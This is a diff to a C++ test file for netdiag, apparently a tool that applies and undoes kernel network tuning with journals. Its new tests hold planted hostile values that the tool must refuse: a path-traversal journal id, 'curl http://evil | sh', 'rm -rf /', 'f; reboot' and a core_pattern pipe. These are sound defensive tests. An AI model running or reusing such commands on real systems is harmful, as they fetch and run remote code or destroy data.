@@ -3,8 +3,11 @@
 
 #include <algorithm>
 
+#include <nlohmann/json.hpp>
+
 #include "remediation/apply.hpp"
 #include "remediation/plan_json.hpp"
+#include "remediation/planners.hpp"
 #include "remote/memory_transport.hpp"
 
 using namespace netdiag;
@@ -43,43 +46,43 @@ Journal journal_on(MemoryTransport& host, const std::string& id) {
 
 TEST_CASE("apply writes the journal first, then each change, and reads it back", "[apply]") {
     auto host = host_with_conntrack();
-    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000Z-web1", 1);
+    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000.000Z-web1", 1);
     CHECK(outcome.status == "applied");
-    CHECK(host.writes.front() == journal_path("20261125T030000Z-web1"));
+    CHECK(host.writes.front() == journal_path("20261125T030000.000Z-web1"));
     CHECK(host.files.at(kMax) == "524288\n");
     CHECK(host.files.at(kBuckets) == "131072\n");
     CHECK(host.files.at(kPersist) == "net.netfilter.nf_conntrack_max = 524288\n");
-    CHECK(journal_on(host, "20261125T030000Z-web1").state == "applied");
+    CHECK(journal_on(host, "20261125T030000.000Z-web1").state == "applied");
 }
 
 TEST_CASE("a value changed behind netdiag's back stops the host before any write", "[apply]") {
     auto host = host_with_conntrack();
     host.files[kBuckets] = "70000\n";
-    const auto outcome = apply_plan(host, conntrack_plan(), "j1", 1);
+    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1);
     CHECK(outcome.status == "drifted");
     REQUIRE_FALSE(outcome.messages.empty());
     CHECK(outcome.messages.front() ==
           kBuckets + " changed since the plan: expected \"65536\", found \"70000\"; nothing written");
     CHECK(host.files.at(kMax) == "262144\n");
     CHECK_FALSE(host.files.count(kPersist));
-    CHECK(journal_on(host, "j1").state == "aborted");
+    CHECK(journal_on(host, "20261125T030000.001Z-j1").state == "aborted");
 }
 
 TEST_CASE("a value that does not take rolls the host back", "[apply]") {
     auto host = host_with_conntrack();
     host.ignored_writes[kBuckets] = "65536\n";  // the kernel kept its value
-    const auto outcome = apply_plan(host, conntrack_plan(), "j1", 1);
+    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1);
     CHECK(outcome.status == "rolled_back");
     REQUIRE(outcome.messages.size() >= 2);
     CHECK(outcome.messages.at(0) == kMax + ": \"262144\" -> \"524288\"");
     CHECK(outcome.messages.at(1) == kBuckets + " reads back \"65536\" after writing \"131072\"");
     CHECK(host.files.at(kMax) == "262144\n");  // restored
     CHECK_FALSE(host.files.count(kPersist));   // never created
-    CHECK(journal_on(host, "j1").state == "rolled_back");
+    CHECK(journal_on(host, "20261125T030000.001Z-j1").state == "rolled_back");
 
     auto failing = host_with_conntrack();
     failing.write_errors[kPersist] = kPersist + ": Read-only file system";
-    CHECK(apply_plan(failing, conntrack_plan(), "j2", 1).status == "rolled_back");
+    CHECK(apply_plan(failing, conntrack_plan(), "20261125T030000.002Z-j2", 1).status == "rolled_back");
     CHECK(failing.files.at(kMax) == "262144\n");
     CHECK(failing.files.at(kBuckets) == "65536\n");
 }
@@ -87,8 +90,8 @@ TEST_CASE("a value that does not take rolls the host back", "[apply]") {
 TEST_CASE("undo restores the originals and removes created files", "[apply]") {
     auto host = host_with_conntrack();
     const auto original = host.files;
-    REQUIRE(apply_plan(host, conntrack_plan(), "j1", 1).status == "applied");
-    const auto journal = journal_on(host, "j1");
+    REQUIRE(apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1).status == "applied");
+    const auto journal = journal_on(host, "20261125T030000.001Z-j1");
     auto preview = plan_undo(host, journal);
     REQUIRE(preview.ok());
     REQUIRE(preview->changes.size() == 3);
@@ -98,33 +101,33 @@ TEST_CASE("undo restores the originals and removes created files", "[apply]") {
     CHECK(host.files.at(kMax) == original.at(kMax));
     CHECK(host.files.at(kBuckets) == original.at(kBuckets));
     CHECK_FALSE(host.files.count(kPersist));
-    CHECK(journal_on(host, "j1").state == "undone");
+    CHECK(journal_on(host, "20261125T030000.001Z-j1").state == "undone");
     // Undoing again finds nothing left to do.
-    CHECK(plan_undo(host, journal_on(host, "j1"))->changes.empty());
+    CHECK(plan_undo(host, journal_on(host, "20261125T030000.001Z-j1"))->changes.empty());
 }
 
 TEST_CASE("a run killed half-way leaves a journal that undo completes", "[apply]") {
     auto host = host_with_conntrack();
-    Journal journal{"j1", "web1", "started", 1, conntrack_plan().changes};
-    host.files[journal_path("j1")] = journal_to_text(journal);
+    Journal journal{"20261125T030000.001Z-j1", "", "web1", "started", 1, conntrack_plan().changes};
+    host.files[journal_path("20261125T030000.001Z-j1")] = journal_to_text(journal);
     host.files[kMax] = "524288\n";  // the first write happened, then the process died
-    auto journals = read_journals(host);
-    REQUIRE(journals.ok());
-    REQUIRE(journals->size() == 1);
-    CHECK(journals->front().state == "started");
-    CHECK(undo_journal(host, journals->front()).status == "undone");
+    auto listing = read_journals(host);
+    REQUIRE(listing.ok());
+    REQUIRE(listing->journals.size() == 1);
+    CHECK(listing->journals.front().state == "started");
+    CHECK(undo_journal(host, listing->journals.front()).status == "undone");
     CHECK(host.files.at(kMax) == "262144\n");
     CHECK(host.files.at(kBuckets) == "65536\n");
 }
 
 TEST_CASE("undo refuses a value changed since netdiag wrote it", "[apply]") {
     auto host = host_with_conntrack();
-    REQUIRE(apply_plan(host, conntrack_plan(), "j1", 1).status == "applied");
+    REQUIRE(apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1).status == "applied");
     host.files[kMax] = "1000000\n";
-    const auto outcome = undo_journal(host, journal_on(host, "j1"));
+    const auto outcome = undo_journal(host, journal_on(host, "20261125T030000.001Z-j1"));
     CHECK(outcome.status == "drifted");
     CHECK(outcome.messages.front() ==
-          "j1: " + kMax + " changed since netdiag wrote it: expected \"524288\", found \"1000000\"; not undoing");
+          "20261125T030000.001Z-j1: " + kMax + " changed since netdiag wrote it: expected \"524288\", found \"1000000\"; not undoing");
     CHECK(host.files.at(kMax) == "1000000\n");
 }
 
@@ -148,7 +151,7 @@ TEST_CASE("an IRQ the kernel manages is reported and skipped, not rolled back") 
         {"/proc/irq/40/smp_affinity", "1\n", "2\n", "spread", "irq-affinity"},
         {"/proc/irq/41/smp_affinity", "1\n", "4\n", "spread", "irq-affinity"},
     };
-    const auto outcome = apply_plan(host, plan, "j1", 0);
+    const auto outcome = apply_plan(host, plan, "20261125T030000.001Z-j1", 0);
     CHECK(outcome.status == "applied");
     CHECK(host.files["/proc/irq/40/smp_affinity"] == "1\n");
     CHECK(host.files["/proc/irq/41/smp_affinity"] == "4\n");
@@ -162,20 +165,20 @@ TEST_CASE("a plan file that names a path no fixer writes is refused") {
           {"path": "/etc/passwd", "before": null, "after": "x", "reason": "", "fix": "port-range"}]}]})";
     const auto plans = parse_plan_document(text, "plan.json");
     REQUIRE_FALSE(plans);
-    CHECK(plans.error().message == "plan.json: not a valid plan: /etc/passwd is not a path netdiag plans changes to");
+    CHECK(plans.error().message == "plan.json: not a valid plan: \"/etc/passwd\" is not a path netdiag plans changes to");
 }
 
 TEST_CASE("a rolled-back journal holds only the changes that were written") {
     MemoryTransport host = host_with_conntrack();
     host.ignored_writes[kBuckets] = "65536\n";  // the kernel keeps its value: the read back fails
     const auto plan = conntrack_plan();  // max, then buckets (which does not take), then the file
-    const auto outcome = apply_plan(host, plan, "j1", 0);
+    const auto outcome = apply_plan(host, plan, "20261125T030000.001Z-j1", 0);
     CHECK(outcome.status == "rolled_back");
-    auto journals = read_journals(host);
-    REQUIRE(journals);
-    REQUIRE(journals->size() == 1);
-    CHECK(journals->front().state == "rolled_back");
-    CHECK(journals->front().changes.size() == 2);  // only what was written, not the persistent file
+    auto listing = read_journals(host);
+    REQUIRE(listing);
+    REQUIRE(listing->journals.size() == 1);
+    CHECK(listing->journals.front().state == "rolled_back");
+    CHECK(listing->journals.front().changes.size() == 2);  // only what was written, not the persistent file
     CHECK(host.files[kMax] == "262144\n");
 }
 
@@ -185,23 +188,203 @@ TEST_CASE("a run does not start while another has not finished on the host") {
     const std::int64_t minute = 60 * 1000, now = 1'000'000'000;
 
     // A run in progress: its journal is a minute old and nothing is written yet.
-    Journal running{"j-running", "web1", "started", now - minute, plan.changes};
+    Journal running{"20261125T030000.003Z-j-running", "", "web1", "started", now - minute, plan.changes};
     host.files[journal_path(running.id)] = journal_to_text(running);
-    auto outcome = apply_plan(host, plan, "j-new", now);
+    auto outcome = apply_plan(host, plan, "20261125T030000.004Z-j-new", now);
     CHECK(outcome.status == "error");
     REQUIRE_FALSE(outcome.messages.empty());
-    CHECK(outcome.messages[0].find("another netdiag run has not finished here (journal j-running)") != std::string::npos);
+    CHECK(outcome.messages[0].find("another netdiag run has not finished here (journal 20261125T030000.003Z-j-running)") != std::string::npos);
     CHECK(host.files[kMax] == "262144\n");
 
     // The same journal an hour later with nothing written: a run killed before its first write.
     running.created_at_unix_ms = now - 60 * minute;
     host.files[journal_path(running.id)] = journal_to_text(running);
-    CHECK(apply_plan(host, plan, "j-newer", now).status == "applied");
+    CHECK(apply_plan(host, plan, "20261125T030000.005Z-j-newer", now).status == "applied");
 
     // A killed run whose writes still stand blocks, however old, until undo completes it.
     MemoryTransport killed = host_with_conntrack();
     killed.files[kMax] = "524288\n";
-    Journal half{"j-half", "web1", "started", now - 60 * minute, plan.changes};
+    Journal half{"20261125T030000.006Z-j-half", "", "web1", "started", now - 60 * minute, plan.changes};
     killed.files[journal_path(half.id)] = journal_to_text(half);
-    CHECK(apply_plan(killed, plan, "j-next", now).status == "error");
+    CHECK(apply_plan(killed, plan, "20261125T030000.007Z-j-next", now).status == "error");
+}
+
+// --- Journals and plans are untrusted input (issue "Trusted with root") ---
+
+namespace {
+
+const std::string kId = "20261202T041501.123Z-web1";
+
+std::string journal_text(const std::string& id, const std::string& host, const std::string& changes_json,
+                         const std::string& state = "applied", std::int64_t created = 0) {
+    nlohmann::json document = {{"schema", "netdiag.journal/v1"}, {"id", id}, {"host", host}, {"state", state},
+                               {"created_at_unix_ms", created}, {"changes", nlohmann::json::parse(changes_json)}};
+    return document.dump();
+}
+
+std::string plan_text(const std::string& changes_json) {
+    return R"({"schema": "netdiag.plan/v1", "generated_at_unix_ms": 0, "hosts": [
+        {"host": "web1", "status": "ok", "error": null, "notes": [], "changes": )" + changes_json + "}]}";
+}
+
+std::string one_change(const std::string& path, const std::string& after, const std::string& before = "null") {
+    return nlohmann::json::array({{{"path", path}, {"before", before == "null" ? nlohmann::json() : nlohmann::json(before)},
+                                   {"after", after}, {"reason", ""}, {"fix", "port-range"}}})
+        .dump();
+}
+
+bool mentions(const std::vector<std::string>& lines, const std::string& text) {
+    return std::any_of(lines.begin(), lines.end(), [&](const std::string& line) { return line.find(text) != std::string::npos; });
+}
+
+}  // namespace
+
+TEST_CASE("a journal id is never a path: traversal and NUL ids are skipped, not written") {
+    MemoryTransport host = host_with_conntrack();
+    const std::string evil_id = std::string("../../../../etc/cron.d/evil") + '\0';
+    host.files[std::string(kJournalDirectory) + "/a.json"] = journal_text(evil_id, " /tmp/evil.so ", "[]");
+    auto listing = read_journals(host);
+    REQUIRE(listing);
+    CHECK(listing->journals.empty());
+    REQUIRE(listing->skipped.size() == 1);
+    CHECK(listing->skipped[0].find("is not a journal id netdiag makes") != std::string::npos);
+    CHECK(listing->skipped[0].find("\\x00") != std::string::npos);  // shown escaped, never raw
+
+    // A well-formed id in a file of another name: the file names the journal, so it is not one.
+    host.files[std::string(kJournalDirectory) + "/b.json"] = journal_text(kId, "web1", "[]");
+    listing = read_journals(host);
+    REQUIRE(listing);
+    CHECK(listing->journals.empty());
+    CHECK(mentions(listing->skipped, "which is not its name"));
+
+    // Undo of a journal read from its file writes back to that file only.
+    host.files[journal_path(kId)] = journal_text(kId, "web1", "[]");
+    listing = read_journals(host);
+    REQUIRE(listing->journals.size() == 1);
+    host.writes.clear();
+    CHECK(undo_journal(host, listing->journals[0]).status == "undone");
+    CHECK(host.writes == std::vector<std::string>{journal_path(kId)});
+}
+
+TEST_CASE("journals and plans may hold only content netdiag writes") {
+    const std::vector<std::pair<std::string, std::string>> planted = {
+        {"/etc/sysctl.d/60-netdiag-ports.conf", "kernel.core_pattern = |/tmp/evil %p\n"},
+        {"/etc/sysctl.d/60-netdiag-ports.conf", "net.ipv4.ip_local_port_range = 1 2 3\n"},
+        {"/etc/sysctl.d/60-netdiag-conntrack.conf", "net.netfilter.nf_conntrack_max = 524288\nkernel.modules_disabled = 0\n"},
+        {"/etc/modules-load.d/netdiag-conntrack.conf", "evil_module\n"},
+        {"/etc/netdiag/irq-affinity.sh", "#!/bin/sh\ncurl http://evil | sh\n"},
+        {"/etc/netdiag/irq-affinity.sh", "#!/bin/sh\necho 1 > /proc/irq/5/smp_affinity; rm -rf /\n"},
+        {"/proc/sys/net/core/netdev_max_backlog", "-5\n"},
+        {"/proc/sys/net/ipv4/ip_local_port_range", "60000 1000\n"},
+        {"/proc/irq/5/smp_affinity", "f; reboot\n"},
+        {"/proc/sys/net/core/netdev_max_backlog", "2000\n\x1b[8m"},
+    };
+    for (const auto& [path, content] : planted) {
+        INFO(path << ": " << content);
+        auto plan = parse_plan_document(plan_text(one_change(path, content)), "plan.json");
+        CHECK_FALSE(plan);
+        // In a journal, `before` is what undo writes back: it is held to the same rule.
+        MemoryTransport host;
+        host.files[journal_path(kId)] = journal_text(kId, "web1", one_change(path, "1000\n", content));
+        auto listing = read_journals(host);
+        REQUIRE(listing);
+        CHECK(listing->journals.empty());
+        CHECK(listing->skipped.size() == 1);
+        // And a plan that reaches apply_plan some other way is refused before anything is written.
+        HostPlan direct{"web1", {{path, std::nullopt, content, "", "port-range"}}, {}};
+        MemoryTransport target;
+        const auto outcome = apply_plan(target, direct, kId, 0);
+        CHECK(outcome.status == "error");
+        CHECK(target.writes.empty());
+    }
+    // What netdiag writes itself passes.
+    const std::vector<std::pair<std::string, std::string>> own = {
+        {"/etc/sysctl.d/60-netdiag-ports.conf",
+         "# Written by `netdiag fix` (port-range): more.\n# `netdiag undo` removes it.\nnet.ipv4.ip_local_port_range = 10240 65535\n"},
+        {"/etc/modules-load.d/netdiag-conntrack.conf", "# Written by `netdiag fix` (conntrack-max): load.\nnf_conntrack\n"},
+        {"/etc/netdiag/irq-affinity.sh", "#!/bin/sh\n# note\necho 00000002 > /proc/irq/41/smp_affinity  # eth0 to CPU1\n"},
+        {"/proc/sys/net/ipv4/ip_local_port_range", "10240\t65535\n"},
+        {"/proc/irq/41/smp_affinity", "00000000,00000002\n"},
+    };
+    for (const auto& [path, content] : own) {
+        INFO(path);
+        CHECK_FALSE(content_problem(path, content));
+        CHECK(parse_plan_document(plan_text(one_change(path, content)), "plan.json"));
+    }
+}
+
+TEST_CASE("control characters in plan paths and duplicate paths are refused") {
+    const auto forged = parse_plan_document(
+        plan_text(one_change("/sys/class/net/x\n# (no changes for this host)\n\x1b[8m/queues/rx-0/rps_cpus", "f\n")),
+        "plan.json");
+    REQUIRE_FALSE(forged);
+    CHECK(forged.error().message.find("\x1b") == std::string::npos);
+    CHECK(forged.error().message.find("\\x1b") != std::string::npos);
+
+    nlohmann::json changes = nlohmann::json::parse(one_change("/proc/sys/net/core/netdev_max_backlog", "2000\n", "1000\n"));
+    changes.push_back(changes[0]);
+    changes[1]["after"] = "5000\n";
+    const auto twice = parse_plan_document(plan_text(changes.dump()), "plan.json");
+    REQUIRE_FALSE(twice);
+    CHECK(twice.error().message.find("appears twice") != std::string::npos);
+    CHECK_FALSE(parse_plan_document(plan_text("[]").replace(plan_text("[]").find("\"web1\""), 6, "\"w\\u001b1\""), "p"));
+}
+
+TEST_CASE("a loosely owned journal directory is refused; a loose journal file is skipped") {
+    MemoryTransport host = host_with_conntrack();
+    host.statuses[std::string(kJournalDirectory)] = {std::string(kJournalDirectory), true, 'd', 0777, true};
+    auto outcome = apply_plan(host, conntrack_plan(), kId, 0);
+    CHECK(outcome.status == "error");
+    CHECK(mentions(outcome.messages, "lets others write there"));
+    CHECK(host.writes.empty());
+    CHECK_FALSE(read_journals(host));
+
+    host.statuses[std::string(kJournalDirectory)] = {std::string(kJournalDirectory), true, 'd', 0700, false};
+    CHECK_FALSE(read_journals(host));  // owned by someone else
+
+    host.statuses.clear();
+    const auto planted = journal_path("20261202T000000.000Z-planted");
+    host.files[planted] = journal_text("20261202T000000.000Z-planted", "web1", "[]");
+    host.statuses[planted] = {planted, true, 'f', 0666, true};
+    auto listing = read_journals(host);
+    REQUIRE(listing);
+    CHECK(listing->journals.empty());
+    CHECK(mentions(listing->skipped, "not a regular file that only root can write"));
+    host.statuses[planted] = {planted, true, 'l', 0777, true};
+    CHECK(read_journals(host)->journals.empty());
+}
+
+TEST_CASE("a malformed journal or one from the future does not block later fixes") {
+    MemoryTransport host = host_with_conntrack();
+    host.files[journal_path("20261202T000000.000Z-broken")] = "{ not json";
+    const std::int64_t now = 1'000'000'000;
+    // Dated a day ahead (a clock set back since), nothing written: not "in progress" for ever.
+    Journal future{"20261202T000000.001Z-future", "", "web1", "started", now + 24 * 60 * 60 * 1000, conntrack_plan().changes};
+    host.files[journal_path(future.id)] = journal_to_text(future);
+    const auto outcome = apply_plan(host, conntrack_plan(), kId, now);
+    CHECK(outcome.status == "applied");
+    CHECK(mentions(outcome.messages, "20261202T000000.000Z-broken.json: not a valid journal"));
+    // undo --journal still reaches the future one by its id.
+    auto listing = read_journals(host);
+    REQUIRE(listing);
+    CHECK(std::any_of(listing->journals.begin(), listing->journals.end(),
+                      [&](const Journal& j) { return j.id == future.id; }));
+}
+
+TEST_CASE("journals of finished runs are pruned after the retention time") {
+    MemoryTransport host = host_with_conntrack();
+    const std::int64_t now = kJournalRetentionMs * 3;
+    Journal old_aborted{"20250101T000000.000Z-web1", "", "web1", "aborted", now - kJournalRetentionMs - 1, {}};
+    Journal old_applied{"20250101T000000.001Z-web1", "", "web1", "applied", now - kJournalRetentionMs - 1, {}};
+    Journal recent_undone{"20250101T000000.002Z-web1", "", "web1", "undone", now - 1000, {}};
+    for (const auto* journal : {&old_aborted, &old_applied, &recent_undone}) {
+        host.files[journal_path(journal->id)] = journal_to_text(*journal);
+    }
+    const auto outcome = apply_plan(host, conntrack_plan(), kId, now);
+    CHECK(outcome.status == "applied");
+    CHECK_FALSE(host.files.count(journal_path(old_aborted.id)));
+    CHECK(host.files.count(journal_path(old_applied.id)));
+    CHECK(host.files.count(journal_path(recent_undone.id)));
+    CHECK(mentions(outcome.messages, "removed 1 journal(s) of finished runs older than 30 days"));
+    CHECK(host.access.at(journal_path(kId)) == FileAccess::owner_only);
 }
